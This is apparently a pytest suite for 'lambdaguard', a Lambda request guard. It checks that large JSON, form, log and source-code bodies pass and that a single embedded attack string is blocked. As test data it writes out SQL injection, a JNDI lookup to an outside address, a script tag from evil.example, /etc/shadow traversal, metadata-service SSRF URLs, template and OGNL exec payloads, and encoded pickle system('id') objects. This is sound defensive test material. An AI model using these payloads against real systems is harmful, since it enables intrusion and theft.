"""Large events, through the guard: what is found in them, what passes, and that nobody is held up."""

import base64
import gzip
import json
import random
import zlib
from pathlib import Path
from urllib.parse import quote_plus

import pytest

import lambdaguard
from lambdaguard import guard
from lambdaguard.rules import patience

WORDS = 'the order came back with a note of thanks (it\'s fine), and she said: "no, not today"; so we left & wrote'.split()
ATTACKS = [
    "1' UNION SELECT card FROM payments-- -",
    "${jndi:ldap://203.0.113.66/a}",
    "<script src=//evil.example/x.js></script>",
    "../../../../etc/shadow",
    "http://169.254.169.254/latest/meta-data/iam/",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "http://x.169.254.169.254.sslip.io/",
    "http:/0x7f000001/",
    "\u2019 or \u20181\u2019=\u20181",
    b"cposix\nsystem\n(S'id'\ntR.".hex(),
    zlib.compress(b"cposix\nsystem\n(S'id'\ntR.").hex(),
    b'O:7:"Account":1:{s:4:"name";s:2:"id";}'.hex().upper(),
    base64.b32encode(b"cposix\nsystem\n(S'id'\ntR.").decode(),
]


def posted(kind, body, **more):
    return {
        "version": "2.0",
        "routeKey": "$default",
        "rawPath": "/",
        "headers": {"content-type": kind},
        "requestContext": {"http": {"method": "POST"}},
        "body": body,
        **more,
    }


def notes(count):
    chance = random.Random(count)
    return [" ".join(chance.choices(WORDS, k=12)) for _ in range(count)]


def as_records(texts):
    return posted(
        "application/json", json.dumps([{"id": at, "name": "Ann O'Brien", "note": text} for at, text in enumerate(texts)])
    )


def as_form(texts):
    return posted("application/x-www-form-urlencoded", "&".join(f"f{at}={quote_plus(text)}" for at, text in enumerate(texts)))


def as_base64(texts):
    event = as_records(texts)
    return {**event, "body": base64.b64encode(event["body"].encode()).decode(), "isBase64Encoded": True}


@guard
def handler(event, context):
    return {"statusCode": 200}


@pytest.fixture(autouse=True)
def patient(monkeypatch):
    """Python may collect the garbage of all the tests before within an event, which can take half a second."""
    monkeypatch.setattr(patience, "_SECONDS", 20.0)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize("shape", [as_records, as_form, as_base64])
@pytest.mark.parametrize("at", [0, 1_500, 3_000])
def test_one_field_among_many(shape, attack, at, capsys):
    texts = notes(3_000)
    assert handler(shape(texts), None)["statusCode"] == 200
    texts.insert(at, attack)
    assert handler(shape(texts), None)["statusCode"] == 403


@pytest.mark.parametrize(
    "attack", [*ATTACKS[:6], "*)(uid=*))(|(uid=*", "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}"], ids=range(8)
)
@pytest.mark.parametrize("at", [0, 2_040, 32 * 1024 * 3 - 6, 150_000, 10**9])
@pytest.mark.parametrize("kind", ["text/plain", "application/json"])
def test_a_line_of_a_long_text(attack, at, kind, capsys):
    text = "\n".join(["We met on Monday, and it was fine."] * 9_000)
    at = text.rfind("\n", 0, at) + 1 if at < len(text) else len(text)
    body = f"{text[:at]}\n{attack}\n{text[at:]}"
    body = json.dumps({"text": body}) if kind == "application/json" else body
    refused = handler(posted(kind, body), None)["statusCode"] == 403
    page = f"{text[max(at - 1_000, 0) : at]}\n{attack}\n{text[at : at + 1_000]}"
    assert refused == (handler(posted("text/plain", page), None)["statusCode"] == 403)


@pytest.mark.parametrize("written", [base64.b64encode, lambda data: data.hex().encode()], ids=["base64", "hexadecimal"])
@pytest.mark.parametrize("packed", [bytes, zlib.compress, gzip.compress])
@pytest.mark.parametrize("at", [30_000, 32 * 1024 * 3 - 6, 150_000])
def test_an_object_as_a_line_of_a_long_text(written, packed, at, capsys):
    text = "\n".join(["We met on Monday, and it was fine."] * 9_000)
    at = text.rfind("\n", 0, at) + 1
    line = written(packed(b"cposix\nsystem\n(S'id'\ntR.")).decode()
    assert handler(posted("text/plain", f"{text[:at]}{line}\n{text[at:]}"), None)["statusCode"] == 403


def sources(folder, size):
    """Source code that speaks of attacks: the law book's own, and what stands beside it; look-ups count anywhere."""
    files = sorted((Path(lambdaguard.__file__).parent / folder).glob("**/*.py"))
    texts = [file.read_text(encoding="utf-8") for file in files]
    return "".join(text for text in texts if "jndi:" not in text.lower() and "${" not in text)[:size]


PROSE = "We met on Monday, and it was fine.\n" * 900
SCRIPT = "".join(
    f"-- {name}\nDROP TABLE IF EXISTS {name};\nCREATE TABLE {name} (id int NOT NULL, note varchar({40 + at}) DEFAULT '');\n"
    f"INSERT INTO {name} VALUES ({at}, 'it''s {name}'), ({at + 1}, '');\nSELECT * FROM {name} WHERE id = 1 OR 1=1;\n"
    for at, name in enumerate(f"orders_{number}" for number in range(400))
)


@pytest.mark.parametrize("text", [sources("rules", 20_000), sources("rules", 90_000), sources(".", 900_000), SCRIPT], ids=len)
@pytest.mark.parametrize("kind", ["text/plain", "application/json"])
def test_source_code_passes(text, kind, capsys):
    body = json.dumps({"name": "main", "content": text}) if kind == "application/json" else text
    assert handler(posted(kind, body), None)["statusCode"] == 200
    assert not capsys.readouterr().out.count('"blocked"')


@pytest.mark.parametrize(
    ("before", "attack", "after"),
    [
        ("", "<script>alert(document.cookie)</script>", "\n" + sources("lexers", 60_000)),
        (sources("lexers", 60_000), "${jndi:ldap://203.0.113.66/a}", sources("lexers", 60_000)),
        ("", 'O:7:"Account":1:{s:4:"name";s:2:"id";}', sources("lexers", 60_000)),
        (
            "We met on Monday, and it was fine.\n" * 900,
            "<script src=//evil.example/x.js></script>",
            "\n" + sources("lexers", 1_800),
        ),
    ],
    ids=["before code", "in a log", "an object first", "in prose beside code"],
)
def test_source_code_covers_no_more_than_itself(before, attack, after, capsys):
    assert handler(posted("text/plain", f"{before}{attack}{after}"), None)["statusCode"] == 403


@pytest.mark.parametrize("paragraphs", [5, 400])
def test_a_document_is_judged_as_one(paragraphs, capsys):
    """Whether the script of a page is a piece of the page goes by how the text begins, wherever the script stands."""
    paragraph = "<p>Figures of the year, and what they say about the next one; more in the annex.</p>\n" * 3
    script = "<script>for (const row of rows) { total += row.value; }</script>\n"
    page = (
        f"<!DOCTYPE html>\n<html><head><title>Report</title></head><body>{paragraph * paragraphs}{script}{paragraph * paragraphs}"
    )
    assert handler(posted("text/plain", page), None)["statusCode"] == 200


@pytest.mark.parametrize(("on_error", "status"), [("open", 200), ("closed", 403)])
@pytest.mark.parametrize("size", [1, 6_000], ids=["short", "long"])
def test_what_is_left_unread_is_told(size, on_error, status, monkeypatch, capsys):
    monkeypatch.setattr(patience, "_SECONDS", 0.0)
    guarded = guard(lambda event, context: {"statusCode": 200}, on_error=on_error)
    event = as_records([f"a{number}'; b" * size for number in range(3_000 // size or 20)])
    assert guarded(event, None)["statusCode"] == status
    assert "LG-LIM-006" in capsys.readouterr().out


@pytest.mark.parametrize("attack", ['O:8:"Account":1:{s:1:"a";i:1;}', "{{7*7}}{{''.__class__.__mro__}}", "'||(select 1)||'"])
def test_many_attacks_are_no_cover_for_each_other(attack, capsys):
    assert handler(as_records([f"{attack}{number}" for number in range(20_000)]), None)["statusCode"] == 403


LOG = "".join(
    f"2024-05-12T10:{at % 60:02}:00.{at % 1000:03}Z INFO [worker-{at % 8}] com.acme.Orders - "
    f'order id={at}; user=<{at % 77}> status={{"ok": true}} (took {at}ms)\n'
    for at in range(8_000)
)


def test_a_body_as_large_as_lambda_lets_through_passes(capsys):
    rows = [
        {"id": at, "name": "Ann O'Brien", "mail": f"ann{at}@example.com", "note": "fine, thanks", "tags": ["one", "two"]}
        for at in range(48_000)
    ]
    body = json.dumps(rows)
    assert 5_000_000 < len(body) < 6_000_000
    assert handler(posted("application/json", body), None)["statusCode"] == 200
    assert "LG-" not in capsys.readouterr().out


@pytest.mark.parametrize("count", [10, 5_000])
@pytest.mark.parametrize(
    "attack", ["id=1' UNION SELECT card FROM payments-- -", "a=b; c=<script src=//evil.example/x.js></script>"]
)
def test_one_cookie_among_many(attack, count, capsys):
    cookies = [f"c{at}=v{at}; path" for at in range(count)]
    event = {**posted("text/plain", "x"), "cookies": cookies}
    assert handler(event, None)["statusCode"] == 200
    event["cookies"] = [*cookies[: count // 2], attack, *cookies[count // 2 :]]
    assert handler(event, None)["statusCode"] == 403
    assert " in cookie" in capsys.readouterr().out


@pytest.mark.parametrize("broken", [[], ['["'], ["{]"]], ids=["well-formed", "a quote", "brackets"])
@pytest.mark.parametrize("attack", ["1' UNION SELECT card FROM payments-- -", "<script src=//evil.example/x.js></script>"])
def test_one_of_many_texts_that_are_json(attack, broken, capsys):
    texts = [json.dumps({"id": at, "name": f"Ann {at}", "tags": ["one"]}) for at in range(9_000)]
    assert handler(posted("application/json", json.dumps([*texts, *broken])), None)["statusCode"] == 200
    texts[5_000] = json.dumps({"id": 5_000, "name": attack})
    assert handler(posted("application/json", json.dumps([*broken, *texts])), None)["statusCode"] == 403
    assert f"[{5_000 + len(broken)}].name" in capsys.readouterr().out


@pytest.mark.parametrize("at", [300_000, 500_000, 777_000])
@pytest.mark.parametrize("attack", ["<script src=//evil.example/x.js></script>", "${jndi:ldap://203.0.113.66/a}"])
def test_a_line_of_a_log_that_is_full_of_marks(attack, at, capsys):
    at = LOG.index("\n", at)
    assert handler(posted("text/plain", LOG), None)["statusCode"] == 200
    assert handler(posted("text/plain", f"{LOG[:at]}\n{attack}{LOG[at:]}"), None)["statusCode"] == 403


@pytest.mark.parametrize(
    "attack",
    [
        "../../../../etc/shadow",
        "http://169.254.169.254/latest/meta-data/",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
    ],
)
@pytest.mark.parametrize("last", [True, False], ids=["last", "between"])
def test_a_field_like_many(attack, last, capsys):
    """Addresses and paths have the marks of an attack that is one: thousands of them are no cover."""
    rows = [
        {
            "id": at,
            "avatar": f"https://cdn.example.com/u/{at}.png",
            "path": f"/images/{at}/a.png",
            "bio": f"it's {at} > 3 (fine) & so",
        }
        for at in range(6_000)
    ]
    body = json.dumps([*rows, {"path": attack}] if last else [*rows[:3_000], {"path": attack}, *rows[3_000:]])
    assert handler(posted("application/json", json.dumps(rows)), None)["statusCode"] == 200
    assert handler(posted("application/json", body), None)["statusCode"] == 403


@pytest.mark.parametrize("attack", ["1' UNION SELECT card FROM payments-- -", "<script src=//evil.example/x.js></script>"])
@pytest.mark.parametrize("flood", ["a\u0301", "\u200b", "{{ ", "f(("])
def test_a_flood_of_marks_is_no_cover_for_an_attack(attack, flood, capsys):
    text = flood * 60_000
    assert handler(posted("text/plain", f"{text} {attack} {text}"), None)["statusCode"] == 403
